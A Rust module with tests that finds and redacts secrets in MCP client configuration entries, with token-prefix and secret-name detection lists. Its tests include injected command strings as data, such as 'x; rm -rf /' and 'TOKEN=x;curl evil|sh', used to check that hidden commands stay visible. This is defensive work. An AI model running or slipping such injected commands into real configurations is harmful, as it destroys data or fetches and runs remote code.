//! Finds secrets in other clients' files, so that they can be stored elsewhere.

use super::variables::to_variable_name;
use crate::config::file::tree::{ConfigNode, ConfigValue};
use crate::config::redact;
use crate::config::redact::{Sensitivity, is_clearly_not_secret, redact_arguments, redact_url, redact_value};
use crate::config::value::expand::is_literal;
use crate::secret::{REDACTED, Secret};
use crate::util::secret_names::{is_secret_name, looks_like_key, looks_secret};

/// A secret in the text of an entry.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct FoundSecret {
    /// Its location for display: `env.GITHUB_TOKEN`, `headers.Authorization`, `args[2]`, `url`.
    pub location: String,
    /// The variable that could contain it; the name of the secret if it is stored.
    pub variable: String,
    /// The text that replaces it if it is stored elsewhere.
    pub reference: Option<String>,
    /// Whether it is one by its name or form. Anything else that `config get` would not show only may be a secret: it
    /// is reported and not moved.
    pub is_certain: bool,
    /// The path to the string.
    segments: Vec<PathSegment>,
    /// The part of the string that is the secret, as it is written, and where it begins.
    secret_text: Secret,
    start: usize,
}

#[derive(Clone, Debug, PartialEq, Eq)]
enum PathSegment {
    Key(String),
    Index(usize),
}

impl FoundSecret {
    /// The secret itself, without escapes, to be stored elsewhere.
    #[must_use]
    pub fn secret(&self) -> Secret {
        Secret::new(self.secret_text.reveal().replace("$${", "${"))
    }

    /// Whether it can be stored elsewhere. Text that could act in a command line cannot: it would no longer be shown
    /// (SEC-06).
    #[must_use]
    pub fn is_movable(&self) -> bool {
        self.is_certain && (!self.location.starts_with("args[") || self.is_harmless())
    }

    fn is_harmless(&self) -> bool {
        self.secret_text.reveal().chars().all(is_harmless)
    }

    /// The string without the secret. The same text elsewhere may have an effect in a command line, and may be the host of
    /// a URL: there it is shown.
    #[must_use]
    fn redact_in(&self, mut text: String) -> String {
        self.replace_in(&mut text, REDACTED);
        if self.location.starts_with("args[") {
            return text;
        }
        let (scheme, rest) = text.split_at(text.find("://").map_or(0, |at| at + "://".len()));
        let authority_end = if scheme.is_empty() { 0 } else { rest.find(['/', '?', '#']).unwrap_or(rest.len()) };
        let (authority, tail) = rest.split_at(authority_end);
        let (user, host) = authority.split_at(authority.rfind('@').unwrap_or_default());
        let hidden = |part: &str| part.replace(self.secret_text.reveal(), REDACTED);
        format!("{scheme}{}{host}{}", hidden(user), hidden(tail))
    }

    fn replace_in(&self, text: &mut String, replacement: &str) {
        let end = self.start + self.secret_text.reveal().len();
        if text.get(self.start..end) == Some(self.secret_text.reveal()) {
            text.replace_range(self.start..end, replacement);
        }
    }

    /// Replaces the secret by a reference such as `${GITHUB_TOKEN}`.
    pub fn replace(&mut self, server: &mut ConfigNode, reference: &str) {
        self.reference = Some(reference.to_owned());
        let mut node = server;
        for step in &self.segments {
            let next = match (step, &mut node.value) {
                (PathSegment::Key(key), ConfigValue::Table(members)) => {
                    members.iter_mut().find(|member| member.key == *key).map(|member| &mut member.value)
                }
                (PathSegment::Index(index), ConfigValue::Array(items)) => items.get_mut(*index),
                _ => None,
            };
            match next {
                Some(next) => node = next,
                None => return,
            }
        }
        if let ConfigValue::String(text) = &mut node.value {
            self.replace_in(text, reference);
        }
    }
}

/// Whether this character has no effect in a command line.
fn is_harmless(c: char) -> bool {
    c.is_ascii_alphanumeric() || "_-.+/=:~%@!,#*".contains(c)
}

/// The text at one position of the entry for display, without the secrets in it.
///
/// Text that could have an effect as part of a command line is shown even if it looks like a secret: otherwise a file
/// could hide a command that way (SEC-06).
#[must_use]
pub fn redact_at(text: &str, place: &str, findings: &[FoundSecret]) -> String {
    let mut here: Vec<&FoundSecret> = findings.iter().filter(|finding| finding.location == place).collect();
    if here.iter().any(|finding| finding.is_certain) {
        here.retain(|finding| finding.is_certain);
    }
    here.retain(|finding| finding.reference.is_none() && finding.is_harmless());
    let known = here.iter().fold(text.to_owned(), |text, finding| finding.redact_in(text));
    let shown = redact::redact_setting(&known, place).text;
    let effective = |text: &str| text.replace(REDACTED, "").replace(is_harmless, "");
    if effective(&shown) == effective(&known) { shown } else { known }
}

/// The value of a variable, a header or a login setting for display: what `config get` does not show is hidden.
#[must_use]
pub fn redact_setting(table: &str, key: &str, text: &str, findings: &[FoundSecret]) -> String {
    let place = format!("{table}.{key}");
    match findings.iter().find(|finding| finding.location == place) {
        Some(finding) if finding.reference.is_some() => redact_url(text).text,
        Some(finding) if finding.is_certain => redact_url(&finding.redact_in(text.to_owned())).text,
        _ if is_foreign_reference(text) => text.to_owned(),
        _ => {
            let shown = redact_value(text, key, sensitivity(table, key), None);
            if shown.has_redactions { shown.text } else { text.to_owned() }
        }
    }
}

/// Whether a text would be a reference if it were not escaped: the note of the import about it shows it too.
fn is_foreign_reference(text: &str) -> bool {
    text.starts_with("$${")
}

/// How a value in one of the tables of an entry is shown by `config get`.
fn sensitivity(table: &str, key: &str) -> Sensitivity {
    match table {
        "auth" if key == "client_secret" => Sensitivity::Secret,
        "auth" => Sensitivity::Plain,
        _ => Sensitivity::MaybeSecret,
    }
}

/// The secrets of an entry.
#[must_use]
pub fn find_secrets(server_name: &str, server: &ConfigNode) -> Vec<FoundSecret> {
    let mut found = Vec::new();
    let of_server = |word: &str| to_variable_name(&format!("{server_name}_{word}"));
    let mut add = |place: String, variable: String, path: Vec<PathSegment>, text: &str, part: &str| {
        let start = part.as_ptr().addr().saturating_sub(text.as_ptr().addr());
        let secret_text = Secret::new(part);
        found.push(FoundSecret {
            location: place,
            variable,
            reference: None,
            is_certain: true,
            segments: path,
            secret_text,
            start,
        });
    };
    let key = |word: &str| PathSegment::Key(word.to_owned());
    for table in ["env", "headers", "auth"] {
        let Some(member) = server.get(table) else { continue };
        for pair in member.value.members() {
            let Some(text) = pair.value.as_str() else { continue };
            for (inner, part) in secret_parts(&pair.key, text) {
                let variable = match table {
                    "env" if !inner.is_empty() => {
                        format!("{}_{}", to_variable_name(&pair.key), to_variable_name(inner))
                    }
                    "env" => to_variable_name(&pair.key),
                    _ if pair.key.eq_ignore_ascii_case("authorization") => of_server("TOKEN"),
                    _ => of_server(&pair.key),
                };
                add(format!("{table}.{}", pair.key), variable, vec![key(table), key(&pair.key)], text, part);
            }
        }
    }
    if let Some(ConfigValue::Array(items)) = server.get("args").map(|member| &member.value.value) {
        let mut before = "";
        for (index, item) in items.iter().enumerate() {
            let text = item.as_str().unwrap_or_default();
            for (name, part) in secrets_in_argument(before, text) {
                let path = vec![key("args"), PathSegment::Index(index)];
                add(format!("args[{index}]"), of_server(name), path, text, part);
            }
            before = text;
        }
    }
    let url = server.get("url").and_then(|member| member.value.as_str()).unwrap_or_default();
    for (name, part) in secrets_in_url(url) {
        add("url".to_owned(), of_server(name), vec![key("url")], url, part);
    }
    let mut rest = server.clone();
    found.iter().cloned().for_each(|mut one| one.replace(&mut rest, "${X}"));
    let mut possible = possible_secrets(&rest);
    // Of a value with a certain secret, only a further one in a URL is reported.
    possible.retain(|one| {
        redact_url(one.secret_text.reveal()).has_redactions || !found.iter().any(|other| other.location == one.location)
    });
    found.append(&mut possible);
    found
}

/// Every value that `config get` would not show in full.
fn possible_secrets(server: &ConfigNode) -> Vec<FoundSecret> {
    let mut found = Vec::new();
    let mut add = |place: String, name: &str, text: &str| {
        found.push(FoundSecret {
            location: place,
            variable: to_variable_name(name),
            reference: None,
            is_certain: false,
            segments: Vec::new(),
            secret_text: Secret::new(text),
            start: 0,
        });
    };
    for member in server.members() {
        match &member.value.value {
            ConfigValue::Table(pairs) => {
                for pair in pairs {
                    // A reference of the client that could not be translated is not a secret.
                    let is_reference = |text: &&str| is_foreign_reference(text) || text.contains("{file:");
                    let Some(text) = pair.value.as_str().filter(|text| !is_reference(text)) else { continue };
                    if redact_value(text, &pair.key, sensitivity(&member.key, &pair.key), None).has_redactions {
                        add(format!("{}.{}", member.key, pair.key), &pair.key, text);
                    }
                }
            }
            ConfigValue::Array(items) => {
                let texts: Vec<&str> = items.iter().map(|item| item.as_str().unwrap_or_default()).collect();
                for (at, shown) in redact_arguments(&texts, None).into_iter().enumerate() {
                    if shown.has_redactions {
                        add(format!("{}[{at}]", member.key), &member.key, texts[at]);
                    }
                }
            }
            ConfigValue::String(text) if redact_value(text, &member.key, Sensitivity::Plain, None).has_redactions => {
                add(member.key.clone(), &member.key, text);
            }
            _ => {}
        }
    }
    found
}

/// The secrets in a value with this name, the last one first, so that each can be replaced before those to its left;
/// and the name of the part that is one, unless it is the whole value.
fn secret_parts<'a>(name: &str, text: &'a str) -> Vec<(&'a str, &'a str)> {
    // A reference of the client that could not be translated is not a secret.
    if !is_literal(text) || text.contains("{file:") {
        return Vec::new();
    }
    let bare = ["Bearer ", "bearer ", "Basic ", "token ", "Token "].iter().find_map(|scheme| text.strip_prefix(scheme));
    let part = bare.unwrap_or(text).trim();
    let is_value = !part.is_empty() && !matches!(part, "true" | "false" | "none" | "0" | "1");
    if is_value && (is_likely_secret(name) || is_secret_by_name_and_value(name, part)) {
        return vec![("", part)];
    }
    known_token(part).map_or_else(|| secrets_in_url(text), |part| vec![("", part)])
}

/// The secrets in an argument: after a flag for one, after `=`, or recognized by its form.
fn secrets_in_argument<'a>(before: &'a str, text: &'a str) -> Vec<(&'a str, &'a str)> {
    if !is_literal(text) || text.is_empty() {
        return Vec::new();
    }
    if let Some((flag, value)) = text.split_once('=') {
        if !value.is_empty() && !flag.contains(' ') && is_likely_secret(flag) {
            return vec![(flag.trim_start_matches('-'), value)];
        }
        // Arguments such as `--header=Authorization: Bearer x`.
        let found = secrets_in_header(value);
        if !found.is_empty() {
            return found;
        }
    }
    if before.starts_with('-') && !text.starts_with('-') && !before.contains('=') && is_likely_secret(before) {
        return vec![(before.trim_start_matches('-'), text)];
    }
    match (secrets_in_header(text), known_token(text)) {
        (found, _) if !found.is_empty() => found,
        (_, Some(part)) => vec![("token", part)],
        _ => secrets_in_url(text),
    }
}

/// `Name: value`, a header argument of bridges.
fn secrets_in_header(text: &str) -> Vec<(&str, &str)> {
    let (name, value) = text.split_once(':').unwrap_or_default();
    let plain = !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '-');
    if plain && !value.starts_with("//") && is_likely_secret(name) {
        secret_parts(name, value.trim()).into_iter().map(|(_, part)| (name, part)).collect()
    } else {
        Vec::new()
    }
}

/// The parameters with a secret name, the keys in the path and the password of a URL, the last one first.
fn secrets_in_url(text: &str) -> Vec<(&str, &str)> {
    let Some((_, rest)) = text.split_once("://").filter(|_| is_literal(text)) else { return Vec::new() };
    let (rest, query) = rest.split('#').next().map_or(("", ""), |url| url.split_once('?').unwrap_or((url, "")));
    let parameters = query.split('&').filter_map(|pair| pair.split_once('='));
    let parameters = parameters.filter(|(name, value)| is_likely_secret(name) && !value.is_empty());
    let (authority, path) = rest.split_once('/').unwrap_or((rest, ""));
    let keys = path.split('/').filter(|segment| looks_like_key(segment)).map(|segment| ("key", segment));
    let user = authority.rsplit_once('@').and_then(|(user, _)| user.split_once(':'));
    let password = user.map(|(_, password)| ("password", password)).filter(|(_, password)| !password.is_empty());
    let mut found: Vec<_> = password.into_iter().chain(keys).chain(parameters).collect();
    found.reverse();
    found
}

/// The prefixes of well-known services' tokens.
const TOKEN_PREFIXES: &[&str] = &[
    "ghp_",
    "gho_",
    "ghu_",
    "ghs_",
    "github_pat_",
    "glpat-",
    "sk-",
    "sk_live_",
    "sk_test_",
    "rk_live_",
    "xoxb-",
    "xoxp-",
    "xapp-",
    "AKIA",
    "ASIA",
    "AIza",
    "ntn_",
    "secret_",
    "lin_api_",
    "figd_",
    "npm_",
    "hf_",
    "dop_v1_",
    "SG.",
    "shpat_",
    "eyJ",
];

/// A token recognized by its form.
fn known_token(text: &str) -> Option<&str> {
    let plain = text.len() >= 16 && text.chars().all(|c| c.is_ascii_alphanumeric() || "_-.".contains(c));
    let digit = text.contains(|c: char| c.is_ascii_digit());
    (plain && digit && TOKEN_PREFIXES.iter().any(|prefix| text.starts_with(prefix))).then_some(text)
}

/// Words that mark the name of a secret.
const SECRET_WORDS: &[&str] = &[
    "TOKEN",
    "SECRET",
    "PASSWORD",
    "PASSWD",
    "PASSPHRASE",
    "PASS",
    "PWD",
    "KEY",
    "APIKEY",
    "CREDENTIAL",
    "CREDENTIALS",
    "AUTHORIZATION",
    "AUTH",
    "COOKIE",
    "PAT",
    "JWT",
    "BEARER",
    "ACCESSTOKEN",
    "AUTHTOKEN",
];

/// Last words that mean that the value describes a secret but is not one.
const METADATA_WORDS: &[&str] = &[
    "FILE",
    "PATH",
    "DIR",
    "URL",
    "URI",
    "ID",
    "NAME",
    "TYPE",
    "MODE",
    "METHOD",
    "TTL",
    "LIMIT",
    "COUNT",
    "TIMEOUT",
    "ENV",
    "VAR",
    "HEADER",
    "HOST",
    "ENDPOINT",
    "SCOPE",
    "SCOPES",
    "PROVIDER",
    "ENABLED",
    "ALGORITHM",
];

/// Whether a value with this name is probably secret: `GITHUB_TOKEN`, `x-api-key`, `--apiKey`.
fn is_likely_secret(name: &str) -> bool {
    let snake = to_variable_name(name);
    snake.split('_').any(|word| SECRET_WORDS.contains(&word)) && !describes_secret(&snake)
}

/// Whether the value of a variable or header is probably secret: its name is that of a secret without a separator
/// (`PGPASSWORD`), or resembles one and the value is not a common word.
fn is_secret_by_name_and_value(name: &str, value: &str) -> bool {
    let resembles = is_secret_name(name) || (looks_secret(name) && !is_clearly_not_secret(value));
    resembles && !describes_secret(&to_variable_name(name))
}

/// Whether a name in upper case says that its value is public, or only describes a secret.
fn describes_secret(snake: &str) -> bool {
    let mut words = snake.split('_');
    words.clone().any(|word| matches!(word, "PUBLIC" | "PUBLISHABLE"))
        || words.next_back().is_some_and(|word| METADATA_WORDS.contains(&word))
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;
    use crate::config::file::tree::parse_toml;

    fn found_secrets(toml: &str) -> Vec<String> {
        find_secrets("my-api", &parse_toml(toml).unwrap())
            .iter()
            .filter(|finding| finding.is_certain)
            .map(|finding| format!("{} {} {}", finding.location, finding.variable, finding.secret().reveal()))
            .collect()
    }

    #[test]
    fn secrets_are_found_wherever_clients_put_them() {
        for (toml, found) in [
            ("env.GITHUB_TOKEN = 'abc'", "env.GITHUB_TOKEN GITHUB_TOKEN abc"),
            ("env.X = 'ghp_0123456789abcdef'", "env.X X ghp_0123456789abcdef"),
            ("env.DATABASE_URL = 'postgres://ada:pw@db/x'", "env.DATABASE_URL DATABASE_URL_PASSWORD pw"),
            ("headers.Authorization = 'Bearer abc'", "headers.Authorization MY_API_TOKEN abc"),
            ("headers.x-api-key = 'abc'", "headers.x-api-key MY_API_X_API_KEY abc"),
            ("auth.client_secret = 's'", "auth.client_secret MY_API_CLIENT_SECRET s"),
            ("args = ['--api-key', 'abc']", "args[1] MY_API_API_KEY abc"),
            ("args = ['--token=abc']", "args[0] MY_API_TOKEN abc"),
            ("args = ['--header', 'Authorization: Bearer abc']", "args[1] MY_API_AUTHORIZATION abc"),
            ("args = ['-y', 'sk-0123456789abcdef0']", "args[1] MY_API_TOKEN sk-0123456789abcdef0"),
            ("url = 'https://x/mcp?api_key=abc&b=c'", "url MY_API_API_KEY abc"),
            ("env.SECRET = 'a$${b'", "env.SECRET SECRET a${b"),
            ("env.PGPASSWORD = 'horse'", "env.PGPASSWORD PGPASSWORD horse"),
            ("env.SESSION = 'a1b2c3'", "env.SESSION SESSION a1b2c3"),
            ("env.SENTRY_DSN = 'https://abc@o1.example/1'", "env.SENTRY_DSN SENTRY_DSN https://abc@o1.example/1"),
            (
                "url = 'https://x/sk_live_4eC39HqLyjWDarjtT1zdp7dc/mcp'",
                "url MY_API_KEY sk_live_4eC39HqLyjWDarjtT1zdp7dc",
            ),
        ] {
            assert_eq!(found_secrets(toml), [found], "{toml}");
        }
    }

    #[test]
    fn what_is_no_secret_is_left_alone() {
        for toml in [
            "env.GITHUB_TOKEN = '${GITHUB_TOKEN}'",
            "headers.Authorization = 'Bearer ${T}'",
            "env.TOKEN_FILE = '/run/token'",
            "env.AUTH_TYPE = 'interactive'",
            "env.MAX_TOKENS = '100'",
            "env.KEYBOARD = 'us'",
            "env.PUBLIC_KEY = 'abc'",
            "env.TOKEN = ''",
            "headers.X-Token = '{file:~/.token}'",
            "env.USE_AUTH = 'true'",
            "args = ['-y', '@scope/server-secret-manager', '--key']",
            "args = ['--token', '--verbose']",
            "url = 'https://x/mcp?team=a'",
            "auth.client_id = 'abc'",
        ] {
            assert_eq!(found_secrets(toml), Vec::<String>::new(), "{toml}");
        }
    }

    #[test]
    fn everything_that_is_not_shown_is_found() {
        for (toml, place) in [
            ("env.SLACK_WEBHOOK_URL = 'https://hooks.example/services/T0/B0/xyz'", "env.SLACK_WEBHOOK_URL"),
            ("env.DATABASE_URL = 'postgres://ada@db/x'", "env.DATABASE_URL"),
            ("env.KEYBOARD = 'us'", "env.KEYBOARD"),
            ("headers.X-Team = 'Core Team'", "headers.X-Team"),
            ("url = 'https://ada@x/mcp'", "url"),
            ("proxy = 'http://ada:pw@x'", "proxy"),
            ("args = ['--session', 'abc']", "args[1]"),
        ] {
            let server = parse_toml(toml).unwrap();
            let found = find_secrets("a", &server);
            let found: Vec<_> = found.iter().map(|one| (one.location.as_str(), one.is_certain)).collect();
            assert_eq!(found, [(place, false)], "{toml}");
        }
        for toml in ["env.DEBUG = '1'", "headers.X-Team = 'core'", "url = 'https://x/mcp?team=a'", "args = ['-y']"] {
            assert_eq!(find_secrets("a", &parse_toml(toml).unwrap()), [], "{toml}");
        }
    }

    #[test]
    fn every_secret_in_a_value_is_replaced_or_reported() {
        for (theirs, ours, rest) in [
            (
                "url = 'https://h/mcp?api_key=A&x=1&client_secret=B#token=C'",
                "url = 'https://h/mcp?api_key=${A_API_KEY}&x=1&client_secret=${A_CLIENT_SECRET}#token=C'",
                &[][..],
            ),
            (
                "args = ['--url=postgres://u:p@h/sk_live_4eC39HqLyjWDarjtT1zdp7dc?token=t']",
                "args = ['--url=postgres://u:${A_PASSWORD}@h/${A_KEY}?token=${A_TOKEN}']",
                &[],
            ),
            (
                "env.LINK = 'https://u:p@h/?token=t'",
                "env.LINK = 'https://u:${LINK_PASSWORD}@h/?token=${LINK_TOKEN}'",
                &[],
            ),
            ("url = 'https://h/?token=t&session=s'", "url = 'https://h/?token=${A_TOKEN}&session=s'", &["url"]),
        ] {
            let mut server = parse_toml(theirs).unwrap();
            let (found, other): (Vec<_>, Vec<_>) =
                find_secrets("a", &server).into_iter().partition(|one| one.is_certain);
            let places: Vec<_> = other.iter().map(|one| one.location.as_str()).collect();
            assert_eq!(places, rest, "{theirs}");
            for mut finding in found {
                finding.replace(&mut server, &format!("${{{}}}", finding.variable));
            }
            assert!(server.is_equivalent(&parse_toml(ours).unwrap()), "{server:?}");
        }
    }

    #[test]
    fn only_the_secret_itself_is_replaced() {
        let mut server = parse_toml("url = 'https://abc/mcp?api_key=abc'").unwrap();
        find_secrets("a", &server)[0].clone().replace(&mut server, "${K}");
        assert_eq!(server.get("url").unwrap().value.as_str(), Some("https://abc/mcp?api_key=${K}"));
    }

    #[test]
    fn a_reference_takes_the_place_of_the_secret_alone() {
        let mut server = parse_toml("headers.Authorization = 'Bearer abc'\nargs = ['--token=xyz']").unwrap();
        for mut finding in find_secrets("a", &server) {
            finding.replace(&mut server, &format!("${{{}}}", finding.variable));
        }
        let expected =
            parse_toml("headers.Authorization = 'Bearer ${A_TOKEN}'\nargs = ['--token=${A_TOKEN}']").unwrap();
        assert!(server.is_equivalent(&expected), "{server:?}");
        assert_eq!(find_secrets("a", &server), []);
    }

    #[test]
    fn showing_hides_secrets_but_never_a_command() {
        let server = parse_toml("args = ['--token', 'x; rm -rf /', '--key=abc']").unwrap();
        let findings = find_secrets("a", &server);
        assert_eq!(findings.len(), 2);
        assert_eq!(redact_at("x; rm -rf /", "args[1]", &findings), "x; rm -rf /");
        assert_eq!(redact_at("--key=abc", "args[2]", &findings), "--key=[redacted]");
        for (arg, shown) in [
            ("curl https://u:pw@h/?session=x;rm", "curl https://u:[redacted]@h/?session=x;rm"),
            ("curl https://u:pw@h/?session=x", "curl https://u:[redacted]@h/?session=[redacted]"),
            ("curl https://u:pw@h/?token=x|sh", "curl https://u:[redacted]@h/?token=x|sh"),
            ("curl https://u:rm@h/; rm -r x", "curl https://u:[redacted]@h/; rm -r x"),
            ("curl https://h/?session=[redacted];rm", "curl https://h/?session=[redacted];rm"),
            ("TOKEN=x;curl evil|sh", "TOKEN=x;curl evil|sh"),
        ] {
            let server = parse_toml(&format!("args = [{arg:?}]")).unwrap();
            assert_eq!(redact_at(arg, "args[0]", &find_secrets("a", &server)), shown);
        }
        assert!(!format!("{findings:?}").contains("abc"), "no secret in Debug");
    }

    #[test]
    fn showing_a_url_hides_every_place_of_a_secret_but_the_host() {
        for (url, shown) in [
            ("https://abc:abc@h/?token=abc&x=abc", "https://[redacted]:[redacted]@h/?token=[redacted]&x=[redacted]"),
            ("https://evil.com/mcp?token=evil.com", "https://evil.com/mcp?token=[redacted]"),
            ("https://h/?key=h", "https://h/?key=[redacted]"),
        ] {
            let server = parse_toml(&format!("url = {url:?}")).unwrap();
            assert_eq!(redact_at(url, "url", &find_secrets("a", &server)), shown);
        }
    }
}
